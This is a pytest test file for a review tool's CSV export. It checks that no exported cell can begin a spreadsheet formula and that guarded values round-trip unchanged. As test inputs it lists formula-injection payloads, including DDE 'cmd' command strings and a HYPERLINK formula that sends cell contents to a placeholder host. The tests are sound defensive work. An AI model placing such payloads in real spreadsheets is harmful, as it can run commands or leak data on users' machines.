"""No cell of a file that medquant exports is a formula to a spreadsheet, whatever a record says, and nothing is lost."""

import csv
import io

import pytest
from sqlalchemy import Engine, update

from db.files import table_of
from db.models.tables import Record
from db.session import reading, writing
from review.exporting import records_to_export
from review.sources.imported import ImportedRecord
from review.sources.reading import read_bytes
from review.sources.table import guarded, unguarded
from review.sources.writing import ENDINGS, WRITERS, written

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1", "'=1+1", "''+1", ";=1+1", ",=1+1", "=1+1\n=2+2", " =1+1", "\t=1+1",
)  # fmt: skip
TABLES = ("csv", "rayyan-csv")


def record(text: str) -> ImportedRecord:
    return ImportedRecord(
        title=text, authors=(text, "B"), venue=text, volume=text, issue=text, pages=text, publisher=text, issn=text,
        language=text, abstract=text, keywords=(text, "b"), key=text, doi="10.1000/1", urls=("https://example.org/=1",),
    )  # fmt: skip


def test_every_table_that_is_written_is_tested_here() -> None:
    assert {form for form in WRITERS if ENDINGS[form] in (".csv", ".tsv", ".xlsx")} == set(TABLES)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("form", TABLES)
def test_no_cell_begins_a_formula(form: str, attack: str) -> None:
    raw = written([record(attack)], form).decode()
    for row in csv.reader(io.StringIO(raw)):
        assert not [cell for cell in row if cell.startswith(STARTS)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_guard_comes_off_again(attack: str) -> None:
    assert unguarded(guarded(attack)) == attack


@pytest.mark.parametrize("form", TABLES)
def test_a_record_of_the_database_goes_out_guarded_and_comes_back(form: str, seeded_db: Engine) -> None:
    table = table_of(Record)
    with writing(seeded_db, actor="ana", reason="an attack") as connection:
        connection.execute(
            update(table).where(table.c.record_id == "r001").values(title="=1+1", authors="@a;-b", year=None)
        )
    with reading(seeded_db) as connection:
        records, _ = records_to_export(connection)
    raw = written(records, form)
    assert not [
        cell for row in csv.reader(io.StringIO(raw.decode())) for cell in row if cell.startswith(STARTS)
    ]
    first = next(r for r in read_bytes("back.csv", raw).records if r.key == "r001")
    assert (first.title, first.authors) == ("=1+1", ("@a", "-b"))
